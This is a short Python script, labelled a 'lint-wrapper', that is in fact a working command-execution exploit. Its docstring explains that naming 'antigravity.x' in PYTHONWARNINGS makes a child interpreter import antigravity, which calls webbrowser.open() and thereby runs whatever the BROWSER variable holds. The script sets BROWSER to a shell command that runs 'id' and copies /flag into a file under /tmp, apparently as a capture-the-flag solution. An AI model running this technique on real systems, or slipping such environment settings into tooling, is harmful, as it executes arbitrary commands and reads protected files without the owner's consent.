"""lint-wrapper: run a child interpreter with warnings routed through a custom category.

The category field of PYTHONWARNINGS is imported by the warnings module at start-up;
naming `antigravity.x` imports antigravity, which calls webbrowser.open(), which
honours BROWSER.
"""
import os
import subprocess
import sys


def child_env():
    env = {k: v for k, v in os.environ.items() if not k.startswith("PYTHON")}
    env["PYTHONWARNINGS"] = "all:0:antigravity.x:0:0"
    env["BROWSER"] = "/bin/sh -c 'id > /tmp/pj_env_a12; cat /flag >> /tmp/pj_env_a12' %s"
    return env


def main():
    r = subprocess.run([sys.executable, "-c", "print('child ok')"],
                       env=child_env(), capture_output=True, text=True, timeout=30)
    print(r.stdout.strip())


if __name__ == "__main__":
    main()
